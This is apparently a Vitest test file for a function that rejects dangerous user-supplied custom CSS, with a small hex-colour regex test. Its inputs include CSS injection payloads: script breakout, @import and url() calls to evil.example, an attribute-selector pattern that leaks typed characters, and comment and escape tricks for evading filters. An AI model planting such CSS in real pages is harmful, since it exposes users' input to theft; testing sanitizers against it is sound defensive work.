import { describe, expect, it } from 'vitest';
import { customCssProblem, HEX_COLOR } from './branding';

describe('customCssProblem', () => {
  it.each([
    ['.sidebar { background: #123456; }', undefined],
    ['h1 { font-weight: 700 } a:hover { text-decoration: underline }', undefined],
    ['.card { border: 1px solid #ccc; } /* a comment */ .title { font-family: Georgia, serif }', undefined],
    ['</style><script>alert(1)</script>', 'Custom CSS may not contain < or >'],
    ['@import url(https://evil.example/x.css);', 'Custom CSS may not use @import'],
    ['@IMPORT "x.css";', 'Custom CSS may not use @import'],
    ['div { width: expression(alert(1)) }', 'Custom CSS may not use script features'],
    ['div { background: url(javascript:alert(1)) }', 'Custom CSS may not use script features'],
    ['div { behavior: url(x.htc) }', 'Custom CSS may not use script features'],
    ['div { -moz-binding: url(x.xml#xss) }', 'Custom CSS may not use script features'],
  ])('%s', (css, expected) => {
    expect(customCssProblem(css)).toBe(expected);
  });

  const NO_LOADING = ': it cannot load images, fonts or other files';
  // Attribute selectors with a background that loads an address leak what people type, one character at a time.
  it.each([
    ['input[value^="a"] { background: url(https://evil.example/a) }', 'url()'],
    ['a { background: URL( "https://evil.example/a" ) }', 'url()'],
    ['a { --x: url(https://evil.example/a) }', 'url()'],
    ['@font-face { font-family: x; src: local(Arial) }', '@font-face'],
    ['a { background-image: image-set("https://evil.example/a.png" 1x) }', 'image-set()'],
    ['a { background-image: -webkit-image-set("https://evil.example/a.png" 1x) }', '-webkit-image-set()'],
    ['a { background-image: cross-fade("a.png", "b.png", 50%) }', 'cross-fade()'],
    ['a { background-image: image("https://evil.example/a.png") }', 'image()'],
    ['a { background: src("https://evil.example/a") }', 'src()'],
    ['@namespace svg url(http://www.w3.org/2000/svg);', '@namespace'],
    // A comment inside a word is checked as if it were not there.
    ['a { background: u/**/rl(https://evil.example/a) }', 'url()'],
    ['@font/* x */-face { font-family: x }', '@font-face'],
    // A "/*" in a string does not hide what follows it.
    ['a::after { content: "/*" } b { background: url(https://evil.example/b) }', 'url()'],
  ])('refuses %s', (css, feature) => {
    expect(customCssProblem(css)).toBe(`Custom CSS may not use ${feature}${NO_LOADING}`);
  });

  it.each([
    ['a { background: u\\72l(https://evil.example/a) }'],
    ['a { background: \\75 rl(https://evil.example/a) }'],
    ['a { background: \\000075rl(https://evil.example/a) }'],
    ['@\\69mport "https://evil.example/x.css";'],
    ['a::before { content: "\\2014" }'],
  ])('refuses escapes, which can spell any word: %s', (css) => {
    expect(customCssProblem(css)).toBe('Custom CSS may not use backslash escapes');
  });

  it('refuses @import hidden by a comment', () => {
    expect(customCssProblem('@im/**/port "x.css";')).toBe('Custom CSS may not use @import');
  });

  it('limits the length', () => {
    expect(customCssProblem('a'.repeat(20_001))).toMatch(/at most/);
  });
});

describe('HEX_COLOR', () => {
  it.each([
    ['#1d5cff', true],
    ['#ABCDEF', true],
    ['#abc', false],
    ['red', false],
    ['#12345g', false],
  ])('%s -> %s', (value, expected) => {
    expect(HEX_COLOR.test(value)).toBe(expected);
  });
});
